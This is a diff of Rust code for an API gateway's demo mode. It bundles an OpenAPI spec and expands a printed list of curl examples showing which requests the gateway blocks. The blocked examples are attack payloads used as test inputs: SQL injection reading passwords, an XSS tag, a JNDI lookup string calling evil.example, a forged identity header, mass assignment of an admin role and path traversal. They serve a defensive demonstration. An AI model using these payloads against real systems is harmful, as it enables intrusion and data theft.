@@ -214,6 +214,9 @@ async fn wait_for_signals(handle: &gateway::GatewayHandle) {
     handle.shutdown().await;
 }
 
+/// The sample API's OpenAPI document, for the demo's positive model.
+const SAMPLE_SPEC: &str = include_str!("../../../examples/specs/sample-api.yaml");
+
 async fn demo(listen: SocketAddr, admin: SocketAddr) -> Result<()> {
     let (api, _task) = sample_api::spawn("127.0.0.1:0".parse()?).await.context("cannot start the sample API")?;
     // A fresh API key for this run: only its hash is written (to a private temp dir); the secret lives in
@@ -228,8 +231,12 @@ async fn demo(listen: SocketAddr, admin: SocketAddr) -> Result<()> {
         gateway::stages::identify::api_key::add(&keys_file, "catalog-bot", vec!["products:read".into()], vec![], None)?;
     let secret = key.secret;
     let wrong_scope = reader.secret;
+    // The sample API's spec travels in the binary; the demo's routes validate against this copy.
+    let spec_file = keys_dir.join("sample-api.yaml");
+    std::fs::write(&spec_file, SAMPLE_SPEC).context("cannot write the demo's OpenAPI spec")?;
     let text = include_str!("demo.yaml")
         .replace("@KEYS@", &keys_file.display().to_string().replace('\\', "/"))
+        .replace("@SPEC@", &spec_file.display().to_string().replace('\\', "/"))
         .replace("@LISTEN@", &listen.to_string())
         .replace("@ADMIN@", &admin.to_string())
         .replace("@UPSTREAM@", &format!("http://{api}"));
@@ -241,15 +248,18 @@ async fn demo(listen: SocketAddr, admin: SocketAddr) -> Result<()> {
 Legitimate calls pass:\n  \
 curl -i http://{g}/users/2\n  \
 curl -i http://{g}/products\n  \
-curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"Grace\"}}'\n  \
+curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"Grace\",\"email\":\"grace@example.com\",\"password\":\"correct horse\"}}'   # 201; the writeOnly password is not echoed\n  \
 curl -i http://{g}/orders -H 'X-API-Key: {secret}'   # API key made at startup (consumer demo-client)\n\n\
 Attacks and mistakes are stopped (problem+json with a stable code; 401s say only auth.failed, the log says why):\n  \
 curl -i http://{g}/orders                                   # auth.missing: orders need an API key\n  \
 curl -i http://{g}/orders -H 'X-API-Key: rk_made_up_key'    # auth.key.invalid\n  \
 curl -i http://{g}/orders -H 'X-API-Key: {wrong_scope}'   # authz.scope: this key lacks orders:read\n  \
-curl -i http://{g}/orders/1 -H 'X-API-Key: {secret}' -H 'X-Consumer-Id: admin'   # forged identity header dropped; upstream sees X-Rampart-Consumer\n  \
+curl -i http://{g}/orders/100 -H 'X-API-Key: {secret}' -H 'X-Consumer-Id: admin'   # forged identity header dropped; upstream sees X-Rampart-Consumer\n  \
 curl -i \"http://{g}/products?q=1%27%20UNION%20SELECT%20password%20FROM%20users--\"   # inspect.sqli\n  \
-curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"<img src=x onerror=alert(1)>\"}}'   # inspect.xss\n  \
+curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"<img src=x onerror=alert(1)>\",\"email\":\"eve@example.com\",\"password\":\"correct horse\"}}'   # inspect.xss\n  \
+curl -i -X POST http://{g}/users -H 'content-type: application/json' -d '{{\"name\":\"Eve\",\"email\":\"eve@example.com\",\"password\":\"correct horse\",\"role\":\"admin\"}}'   # inspect.schema: mass assignment (role is readOnly in the spec)\n  \
+curl -i 'http://{g}/users?limit=1000'                     # inspect.schema: the spec says limit is 1..100\n  \
+curl -i 'http://{g}/users?debug=true'                     # inspect.schema: a query parameter the spec does not declare\n  \
 curl -i http://{g}/users/1 -H 'User-Agent: ${{jndi:ldap://evil.example/x}}'   # inspect.jndi\n  \
 curl -i http://{g}/internal/debug                          # route.not_found: undeclared endpoints don't exist\n  \
 curl -i --path-as-is 'http://{g}/users/%2e%2e/internal/debug'  # resolved to /internal/debug first: still not found\n  \
